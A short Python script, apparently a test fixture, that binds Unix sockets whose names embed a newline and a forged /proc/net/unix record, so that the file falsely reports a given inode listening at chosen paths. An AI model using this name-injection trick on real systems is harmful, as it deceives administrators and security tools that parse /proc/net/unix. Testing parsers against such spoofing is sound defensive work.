"""Sockets whose names have a line of their own in /proc/net/unix, that tells of another's: name-sockets.py INODE PATH...

Each of these lines says that the socket with that inode listens at PATH.
"""
import os, socket, sys, time

inode, *paths = sys.argv[1:]
for path in paths:
    for at in range(40):
        name = f"{at}\n0: 2 0 00010000 1 1 {inode} {path}"
        os.makedirs(os.path.dirname(name), exist_ok=True)
        one = socket.socket(socket.AF_UNIX)
        one.bind(name)
        one.listen()
        one.detach()
print("named", flush=True)
time.sleep(600)
